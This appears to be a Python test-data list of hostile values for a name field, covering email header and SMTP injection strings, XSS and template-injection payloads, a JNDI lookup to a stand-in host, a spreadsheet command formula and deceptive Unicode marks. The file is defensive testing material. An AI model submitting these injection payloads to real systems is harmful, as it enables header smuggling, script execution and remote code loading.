"""What people, and those who are no people, write into a field for a name."""

HOSTILE = [
    # line breaks of every kind, and a header behind them
    *(
        f"Ann{end}Bcc: all@evil.example"
        for end in (
            "\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85",
            "\u2028", "\u2029", "\r\n ", "\r\n\t", "\n\n", "\r\r\n", "\t\n", "\0\n",
        )
    ),
    *(
        f"Ann\r\n{header}"
        for header in (
            "To: other@evil.example", "Cc: other@evil.example", "From: x@evil.example",
            "Reply-To: x@evil.example", "Subject: other", "Content-Type: text/html",
            "X-Mailer: evil", "List-Unsubscribe: <https://evil.example>",
            "Return-Path: <x@evil.example>", "DKIM-Signature: v=1",
            ".\r\nMAIL FROM:<x@evil.example>", "\r\n<script>alert(1)</script>",
        )
    ),
    # encoded words: CVE-2024-6923, CPython 121650 and 144125
    "=?utf-8?q?Ann=0D=0ABcc:_all@evil.example?=", "=?utf-8?b?QW5uDQpCY2M6IHg=?=",
    "A \U0001f4a9 =?UTF-8?Q?=0A?=Bcc: x@evil.example", "=?x?q?=0a?=", "=?=",
    "Ann =?utf-8?q?=0a?= Lee", "=?utf-8?q?", "Ann=?utf-8?q?x", "?=", "=0D=0A",
    # two where one is expected
    "Eve, evil@evil.example", "Eve <evil@evil.example>", "Ann; Bcc: x", "Ann: Lee;",
    "friends: a@evil.example, b@evil.example;", "<>", "()", "(Ann)", "Ann (Lee",
    '"Ann" <x@evil.example>', 'Ann "the Reader" Lee', "Ann\\", '"', '\\"', "@", ",",
    # direction marks, invisible ones, and those that are none
    "Ann \u202e eeL", "\u202dAnn", "Ann\u2066x\u2069", "\u200fAnn", "\u200eAnn",
    "A\u200bnn", "A\u200dnn", "\ufeffAnn", "Ann\u00ad", "\u2060Ann", "\u061cAnn",
    # markup, templates, formulas
    "<script>alert(1)</script>", "<b>Ann</b>", "<img src=x onerror=alert(1)>",
    "&lt;b&gt;", "{{ 7*7 }}", "{% if x %}", "${jndi:ldap://evil.example}", "%0d%0a",
    "[[words]]", "[[leave]]", "=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", "-1",
    "javascript:alert(1)", "--=boundary", "]]>", "<!--",
    # plain, and long, and from everywhere
    "Zoë", "李安", "Владимир", "محمد", "O'Neill", "a" * 998, "é" * 400, "🎈" * 60,
    "Ann\ud800", "\x00", "\x7f", "\x1b[31mAnn", "\x08Ann", " ", "\t",
]  # fmt: skip
